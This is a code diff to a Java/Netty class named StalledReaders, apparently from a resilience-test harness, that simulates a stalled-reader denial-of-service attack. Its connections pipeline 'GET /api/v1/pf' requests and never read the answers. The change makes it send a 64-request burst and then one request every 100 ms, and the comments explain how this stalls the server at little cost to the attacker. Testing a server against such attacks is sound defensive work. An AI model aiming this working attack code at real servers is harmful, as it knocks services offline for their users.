@@ -4,6 +4,7 @@ import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
+import java.util.concurrent.TimeUnit;
 
 import io.netty.buffer.Unpooled;
 import io.netty.channel.Channel;
@@ -15,12 +16,19 @@ import io.netty.channel.ChannelOption;
 /**
  * Attack 1, stalled readers (an attacker process, see {@link AttackProcess}): connections that
  * pipeline {@code GET /api/v1/pf} (some 700 KB an answer with 4,000 VFs) over and over and never read
- * a byte, so that every write of an answer blocks once the socket buffers are full.
+ * a byte, so that every write of an answer blocks once the socket buffers are full. Each sends a burst
+ * of requests, then one more every 100 ms: enough to stall the server, while the kernel's buffers do
+ * not soak up gigabytes of requests and the attacker's CPU stays the server's; and a write every
+ * 100 ms sees a close by the server (a reset) at once.
  */
 final class StalledReaders extends AttackProcess {
 
 	private static final byte[] REQUEST = "GET /api/v1/pf HTTP/1.1\r\nHost: x\r\nAccept: application/json\r\n\r\n"
 		.getBytes(StandardCharsets.US_ASCII);
+
+	private static final int BURST = 64;
+
+	private static final long EVERY_MILLIS = 100;
 
 	private final int connections;
 
@@ -59,6 +67,17 @@ final class StalledReaders extends AttackProcess {
 					}
 				});
 		}
+		this.loop.scheduleWithFixedDelay(() -> List.copyOf(this.open).forEach((channel) -> send(channel, 1)),
+				EVERY_MILLIS, EVERY_MILLIS, TimeUnit.MILLISECONDS);
+	}
+
+	// Only while Netty's own buffer is below its high-water mark: a request more is no more attack.
+	private void send(Channel channel, int requests) {
+		for (int i = 0; i < requests && channel.isWritable() && !this.stopping; i++) {
+			channel.write(Unpooled.wrappedBuffer(REQUEST));
+			this.requestsQueued++;
+		}
+		channel.flush();
 	}
 
 	@Override
@@ -87,22 +106,7 @@ final class StalledReaders extends AttackProcess {
 			this.opened = System.nanoTime();
 			StalledReaders.this.connectMillis.add(millisSince(this.started));
 			StalledReaders.this.open.add(ctx.channel());
-			fill(ctx);
-		}
-
-		@Override
-		public void channelWritabilityChanged(ChannelHandlerContext ctx) {
-			fill(ctx);
-		}
-
-		// Netty's outbound buffer stops being writable at its high-water mark, so this never queues
-		// more than some 64 KB beyond what the kernel took.
-		private void fill(ChannelHandlerContext ctx) {
-			while (ctx.channel().isWritable() && !StalledReaders.this.stopping) {
-				ctx.write(Unpooled.wrappedBuffer(REQUEST));
-				StalledReaders.this.requestsQueued++;
-			}
-			ctx.flush();
+			send(ctx.channel(), BURST);
 		}
 
 		// Without reads, a close is seen when a write fails: a server that closes a connection with our
